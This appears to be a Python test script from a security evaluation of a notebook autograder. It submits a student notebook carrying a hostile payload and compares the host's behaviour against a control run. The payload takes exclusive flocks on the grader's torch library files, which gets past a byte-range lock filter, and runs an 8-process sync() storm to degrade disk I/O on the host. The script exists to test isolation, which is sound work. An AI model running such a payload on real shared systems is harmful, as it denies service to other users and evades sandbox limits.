"""A kernel takes flock(LOCK_EX) on venv files it can read (owner: the grader's user; locks are not byte-range, so
the filter lets them through) and runs a sync()/syncfs() storm in 8 processes for 25 s. Host side, meanwhile: a
flock probe on the same file and a loop of sqlite commits (fsync) in /var/tmp, compared with a control run."""
from common import *
import threading, fcntl, statistics, sqlite3
PAYLOAD = r'''
import os, fcntl, time, glob, torch
locked = []
for f in glob.glob(os.path.dirname(torch.__file__) + "/lib/*.so*")[:200]:
    fd = os.open(f, os.O_RDONLY)
    try: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB); locked.append(f)
    except OSError: os.close(fd)
print("locked", len(locked))
kids = []
for i in range(8):
    pid = os.fork()
    if pid == 0:
        end = time.time() + 25; n = 0
        fd = os.open("/usr/bin/env", os.O_RDONLY)
        while time.time() < end:
            os.sync(); os.syncfs(fd) if hasattr(os, "syncfs") else None; n += 1
        os._exit(0)
    kids.append(pid)
for k in kids: os.waitpid(k, 0)
print("storm done")
'''
def host_probe(stop, res):
    lib = "CLONE/.venv/lib/python3.11/site-packages/torch/lib/libtorch_cpu.so"
    db = sqlite3.connect("/var/tmp/a02-probe.db"); db.execute("create table if not exists t(x)")
    blocked = 0; lat = []
    while not stop.is_set():
        fd = os.open(lib, os.O_RDONLY)
        try: fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB); fcntl.flock(fd, fcntl.LOCK_UN)
        except OSError: blocked += 1
        os.close(fd)
        t = time.time(); db.execute("insert into t values(1)"); db.commit(); lat.append(time.time() - t)
        open("/var/tmp/a02-dirty", "wb").write(os.urandom(1 << 20))
        time.sleep(0.05)
    res.update(blocked=blocked, n=len(lat), median_ms=1000 * statistics.median(lat), p95_ms=1000 * sorted(lat)[int(len(lat) * .95)])

for tag, hostile in (("control", False), ("attack", True)):
    d = course("a02" + tag)
    submit(d, "aaron", notebook())
    if hostile:
        submit(d, "mallory", notebook(extra={"training_memory": PAYLOAD}))
    submit(d, "zoe", notebook())
    stop, res = threading.Event(), {}
    th = threading.Thread(target=host_probe, args=(stop, res)); th.start()
    grade(d); stop.set(); th.join()
    print(tag, "HOST PROBE:", res)
    scores(d)
    shutil.rmtree(d)
